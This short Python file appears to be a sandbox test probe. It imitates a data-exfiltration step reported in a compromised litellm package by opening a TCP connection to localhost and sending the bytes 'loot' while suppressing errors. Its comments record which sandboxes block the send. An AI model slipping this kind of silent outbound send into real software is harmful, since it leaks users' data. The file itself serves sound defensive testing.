# Sends data out over TCP.
# Seen: the litellm 1.82.8 package (browser-use issue 4505).
# plain: possible (data sent)
# landlock: blocked
# bubblewrap: blocked
# library: blocked
# Remedy: a sandbox

import contextlib
import socket

import outside
from honest import distance

with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", outside.TCP), 2) as connection:
    connection.sendall(b"loot")
